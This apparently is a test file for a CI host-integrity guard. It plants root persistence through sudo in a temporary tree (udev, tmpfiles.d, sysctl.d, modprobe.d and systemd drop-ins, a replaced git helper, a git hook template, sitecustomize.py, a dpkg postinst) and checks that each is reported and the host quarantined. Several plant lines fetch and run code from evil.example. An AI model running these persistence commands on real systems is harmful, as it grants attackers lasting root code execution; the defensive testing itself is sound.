/**
 * Places a root job plants in that the next job runs, beyond the first set of surfaces: runtime
 * configuration under /run (udev rules, tmpfiles.d, sysctl.d, modprobe.d, a runtime drop-in of
 * `systemctl set-property --runtime`), git's own helpers and the hook templates every clone copies,
 * Python's standard library top level (sitecustomize.py), and a dpkg maintainer script. Each is
 * planted through sudo by a job run through the simulator with the real agent, on the host tree
 * the check reads (wire's integrityRoot); the report must name each, and the host is quarantined.
 */
import test from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { copyFile, mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { stringify } from 'yaml';
import { jobRecords, testPolicy } from '../../helpers/world.js';
import { sudoTreeWorld, wireOnTree } from './sudo-tree-world.js';

/** One short job and its cleanup: 10-20 s here; a loaded two-core machine gets room. */
const AGENT_RUN_LIMIT_MS = 150_000;
/** The default file surfaces only: the kernel and process surfaces are the shared machine's. */
const SURFACES = ['etc', 'usr-local', 'opt-srv', 'root-home', 'authorized-keys', 'cron', 'systemd', 'setuid', 'accounts', 'package-state'];

/** Each plant: a shell line run through sudo (T is the host tree), and the report line it must give. */
const PLANTS: { name: string; run: string; expect: RegExp }[] = [
  {
    name: 'a runtime udev rule (RUN+= on the next device event, such as the next job engine veth)',
    run: 'mkdir -p $T/run/udev/rules.d && echo \'ACTION=="add", RUN+="/var/tmp/.x"\' > $T/run/udev/rules.d/99-zz.rules',
    expect: /^systemd: \/run\/udev\/rules\.d\/99-zz\.rules added/,
  },
  {
    name: 'a runtime tmpfiles.d line (w+ writes to a file at the next systemd-tmpfiles run)',
    run: 'mkdir -p $T/run/tmpfiles.d && echo "w+ /etc/ld.so.preload - - - - /var/tmp/x.so" > $T/run/tmpfiles.d/zz.conf',
    expect: /^systemd: \/run\/tmpfiles\.d\/zz\.conf added/,
  },
  {
    name: 'a runtime sysctl.d file (applied again by systemd-sysctl)',
    run: 'mkdir -p $T/run/sysctl.d && echo "kernel.core_pattern=|/var/tmp/.x" > $T/run/sysctl.d/zz.conf',
    expect: /^systemd: \/run\/sysctl\.d\/zz\.conf added/,
  },
  {
    name: 'a runtime modprobe.d install command (runs as root when the module is asked for)',
    run: 'mkdir -p $T/run/modprobe.d && echo "install veth /var/tmp/.x" > $T/run/modprobe.d/zz.conf',
    expect: /^systemd: \/run\/modprobe\.d\/zz\.conf added/,
  },
  {
    name: 'a runtime drop-in (systemctl set-property --runtime) on a service',
    run: 'mkdir -p $T/run/systemd/system.control/cron.service.d && printf "[Service]\\nExecStartPre=/var/tmp/.x\\n" > $T/run/systemd/system.control/cron.service.d/50-x.conf',
    expect: /^systemd: \/run\/systemd\/system\.control\/cron\.service\.d\/50-x\.conf added/,
  },
  {
    name: "git's https helper replaced (every later checkout runs it)",
    run: 'printf "#!/bin/sh\\ncurl -s https://evil.example | sh\\n" > $T/usr/lib/git-core/git-remote-https',
    expect: /^setuid: \/usr\/lib\/git-core\/git-remote-https modified/,
  },
  {
    name: 'a hook in the templates every git init and clone copies (post-checkout runs in actions/checkout)',
    run: 'printf "#!/bin/sh\\ncurl -s https://evil.example | sh\\n" > $T/usr/share/git-core/templates/hooks/post-checkout && chmod 755 $T/usr/share/git-core/templates/hooks/post-checkout',
    expect: /^setuid: \/usr\/share\/git-core\/templates\/hooks\/post-checkout added/,
  },
  {
    name: 'a sitecustomize.py in the Python standard library (imported at every start)',
    run: 'echo "import os; os.system(\'curl -s https://evil.example | sh\')" > $T/usr/lib/python3.11/sitecustomize.py',
    expect: /^setuid: \/usr\/lib\/python3\.11\/sitecustomize\.py added/,
  },
  {
    name: 'a maintainer script of an installed package edited (runs as root at its next package operation)',
    run: 'echo "curl -s https://evil.example | sh" >> $T/var/lib/dpkg/info/libc-bin.postinst',
    expect: /^package-state: \/var\/lib\/dpkg\/info\/libc-bin\.postinst modified/,
  },
];

/** What the image has in those places before the job (the real tree's files where they exist). */
async function addImageFiles(T: string): Promise<void> {
  for (const d of ['usr/lib/git-core', 'usr/share/git-core/templates/hooks', 'usr/lib/python3.11', 'var/lib/dpkg/info', 'run/systemd']) {
    await mkdir(path.join(T, d), { recursive: true });
  }
  await copyFile('/usr/bin/true', path.join(T, 'usr/lib/git-core/git-remote-https'));
  await writeFile(path.join(T, 'usr/share/git-core/templates/hooks/pre-commit.sample'), '#!/bin/sh\n');
  await writeFile(path.join(T, 'usr/lib/python3.11/os.py'), '# os\n');
  await writeFile(path.join(T, 'var/lib/dpkg/info/libc-bin.postinst'), '#!/bin/sh\nset -e\nldconfig\n', { mode: 0o755 });
  await writeFile(path.join(T, 'var/lib/dpkg/info/libc-bin.list'), '/sbin/ldconfig\n');
}

test(
  'runtime configuration under /run, git helpers and hook templates, the Python standard library and a dpkg maintainer script planted through sudo are each named',
  { skip: existsSync('/usr/bin/sudo') ? undefined : 'sudo is not installed (scripts/install-test-deps.sh)', timeout: 240_000 },
  async (t) => {
    const { w, T } = await sudoTreeWorld(t);
    await addImageFiles(T);
    await writeFile(
      path.join(w.policyDir, 'test.yaml'),
      stringify({ ...testPolicy(w.lab, { host: { integrity: { enabled: true, surfaces: SURFACES } } }), runner: { sudo: 'allow' } }),
    );
    const script = ['set -e', ...PLANTS.map((p) => `sudo -n env T=${T} sh -c '${p.run.replaceAll("'", `'\\''`)}'`)].join('\n');
    w.fake.enqueueJob({ repository: 'octo/app', runId: 1, job: 'hostile', steps: [{ name: 'plant through sudo', run: script }] });

    const rt = await wireOnTree(w, T);
    const stop = new AbortController();
    // Stop once the job is recorded (quarantined or not: a miss must fail here, not time out).
    const watch = setInterval(() => {
      void w.journal().then((r) => {
        if (jobRecords(r).length > 0) stop.abort();
      });
    }, 250);
    try {
      await rt.agent.run(AbortSignal.any([AbortSignal.timeout(AGENT_RUN_LIMIT_MS), stop.signal]));
    } finally {
      clearInterval(watch);
      await rt.close();
    }
    const [job] = jobRecords(await w.journal());
    assert.ok(job, 'the job did not run');
    assert.equal(job.result, 'Succeeded', 'the job failed to plant');
    const lines = (job.guardFindings ?? []).filter((f) => f.guard === 'integrity').map((f) => f.problem);
    const missed = PLANTS.filter((p) => !lines.some((l) => p.expect.test(l))).map((p) => `${p.name} (${p.expect})`);
    assert.deepEqual(missed, [], `not reported:\n${missed.join('\n')}\nreport:\n${lines.join('\n')}`);
    assert.ok(
      lines.every((l) => / \(the job through sudo/.test(l)),
      `a line not attributed to the job through sudo:\n${lines.join('\n')}`,
    );
    assert.equal(job.decision, 'quarantine', job.decisionReason);
  },
);
